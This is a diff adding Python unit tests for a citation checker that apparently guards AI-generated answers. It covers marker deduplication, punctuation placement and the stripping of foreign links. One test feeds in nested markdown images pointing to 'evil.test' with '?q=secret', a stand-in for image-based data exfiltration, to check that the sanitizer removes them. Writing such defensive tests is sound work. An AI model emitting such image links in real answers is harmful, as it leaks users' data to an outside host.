@@ -77,3 +77,21 @@ def test_echoing_the_question_is_not_support_for_a_new_claim():
     assert cites == [] and text.endswith(UNSUPPORTED), "its new words (lifetime, owner) are in no source"
     text, cites, _ = verify("The warranty lasts 4 years [2].", HITS, question)
     assert [c.n for c in cites] == [2]
+
+
+def test_nested_links_cannot_leave_a_foreign_image_behind():
+    """Removing the inner image once joined "![" and "](//evil…)" into a new image."""
+    for answer in ["[![x](a)](//evil.test/p.png?q=secret)", "![![x](a)](//evil.test/p.png?q=secret)"]:
+        out = strip_foreign_links(answer, HITS)
+        assert "](" not in out, out
+
+
+def test_repeated_markers_cite_each_source_once():
+    assert split_answer("Leave is 27 days [1][1] [2, 1].") == [("Leave is 27 days.", [1, 2])]
+    text, _, _ = verify("Employees receive 27 days of paid annual leave [1][1].", HITS)
+    assert text == "Employees receive 27 days of paid annual leave [1]."
+
+
+def test_marker_goes_before_the_final_punctuation():
+    text, _, _ = verify("Employees receive 27 days of paid annual leave?!", HITS)
+    assert text == "Employees receive 27 days of paid annual leave [1]?!"
